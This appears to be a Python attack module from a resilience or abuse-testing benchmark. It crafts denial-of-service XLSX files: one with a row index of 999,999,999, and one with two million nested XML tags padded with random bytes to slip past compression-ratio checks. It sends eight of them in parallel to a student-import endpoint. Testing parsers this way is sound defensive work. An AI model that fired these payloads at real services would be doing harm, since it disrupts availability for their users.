"""The office sends small spreadsheets that take long to read: a row with a huge number, millions of nested tags."""

import io
import random
import zipfile

import openpyxl

from bench.abuse.attack import Attack, People, Request, build_form, send_repeatedly

PATH = "/api/v1/courses/imports/students/"
PARALLEL = 8
SHEET = "xl/worksheets/sheet1.xml"
OPENING = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
NESTED_TAGS = 2_000_000


def pack_sheet(sheet: bytes, **parts: bytes) -> bytes:
    """Return an XLSX with this sheet and these other parts."""
    book, whole, out = openpyxl.Workbook(), io.BytesIO(), io.BytesIO()
    book.save(whole)
    replaced: dict[str, bytes] = {SHEET: sheet, **parts}
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.namelist():
            target.writestr(entry, replaced.pop(entry, b"") or source.read(entry))
        for name, data in replaced.items():
            target.writestr(name, data)
    return out.getvalue()


def make_far_row() -> bytes:
    """Return a table whose second row has the number 999,999,999."""
    rows = b"".join(
        b'<row r="%d"><c t="inlineStr"><is><t>Name</t></is></c><c t="inlineStr"><is><t>Phone</t></is></c></row>'
        % number
        for number in (1, 999_999_999)
    )
    return pack_sheet(OPENING + rows + b"</sheetData></worksheet>")


def make_nested_tags() -> bytes:
    """Return a table with two million tags in each other, and random bytes: what shrinks too well is refused before."""
    nested = b"<a>" * NESTED_TAGS + b"</a>" * NESTED_TAGS
    sheet = OPENING + b'<row r="1"><c>' + nested + b"</c></row></sheetData></worksheet>"
    return pack_sheet(sheet, **{"docProps/random.bin": random.Random(7).randbytes(64 * 1024)})


def prepare(people: People) -> list[Request]:
    """Return imports of pupils by the office."""
    files = [make_far_row(), make_nested_tags()]
    return [
        build_form(people.office, PATH, file=files[number % 2], name="pupils.xlsx", fields={"dry_run": "true"})
        for number in range(PARALLEL)
    ]


ATTACK = Attack(f"{PARALLEL} hostile spreadsheets at once", prepare, send_repeatedly, control="served")
